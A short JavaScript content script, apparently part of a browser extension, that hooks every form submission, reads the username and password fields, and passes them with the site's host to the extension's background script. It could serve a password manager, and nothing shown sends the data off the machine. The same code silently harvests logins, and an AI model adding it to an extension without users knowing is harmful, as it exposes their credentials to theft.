document.addEventListener("submit", (event) => {
  const password = event.target.querySelector("input[type=password]");
  const user = event.target.querySelector("input[type=email], input[type=text]");
  if (password && password.value) {
    chrome.runtime.sendMessage({type: "login", site: location.host, user: user && user.value, password: password.value});
  }
}, true);
